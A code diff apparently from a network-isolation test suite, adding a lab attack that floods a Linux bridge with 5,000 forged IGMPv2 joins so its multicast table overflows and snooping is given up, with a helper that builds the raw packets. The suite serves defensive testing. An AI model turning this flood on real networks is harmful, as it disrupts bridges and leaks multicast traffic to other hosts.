@@ -10,6 +10,7 @@ import struct
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager, suppress
+from ipaddress import ip_address
 
 from attack import acts
 from attack.registry import attack, control
@@ -300,6 +301,40 @@ def multicast_router(site: Site) -> str | None:
             elif card.ifname in routers:
                 return f"{name}: its port is one that leads to a multicast router"
     return None
+
+
+@attack(
+    "5,000 multicast groups joined",
+    "the bridge's table is full, and it stops looking at who joined what, for all",
+    known="the kernel counts groups by the bridge (mcast_hash_max), and a port's limit"
+    " does not keep them out; a LAN's bridge that snoops then floods multicast, as one"
+    " without snooping does",
+)
+def many_groups(site: Site) -> str | None:
+    for ground in site.all_grounds():
+        card = ground.attacker
+        with snooping(site, card.bridge):
+            joins = [join(card, f"239.1.{n >> 8}.{n & 255}") for n in range(5000)]
+            card.agent(acts.send_all, card.number, joins)
+            drain(ground.station)
+            control(arrives(card.hello(), card.wire, ground.station, card.hello()),
+                    "what it may send passes")  # fmt: skip
+            data = host.link(site.lab.host, card.bridge)["linkinfo"]["info_data"]
+            if not data["mcast_snooping"]:
+                return f"{ground.name}: the bridge has given snooping up"
+            rows = site.lab.host.run("bridge", "mdb", "show", "dev", card.bridge)
+            control("239.1.0.1" in rows.stdout, "a group may be joined")
+    return None
+
+
+def join(card: Card, group: str) -> bytes:
+    """An IGMPv2 report."""
+    body = bytes((0x16, 0, 0, 0)) + ip_address(group).packed
+    body = body[:2] + frames.checksum(body).to_bytes(2, "big") + body[4:]
+    raw = ip_address(group).packed
+    mac = bytes((1, 0, 0x5E, raw[1] & 0x7F, raw[2], raw[3])).hex(":")
+    packet = frames.ipv4(card.ipv4, group, 2, body, options=b"\x94\4\0\0")
+    return frames.ethernet(card.mac, mac, frames.IPV4, packet)
 
 
 @contextmanager
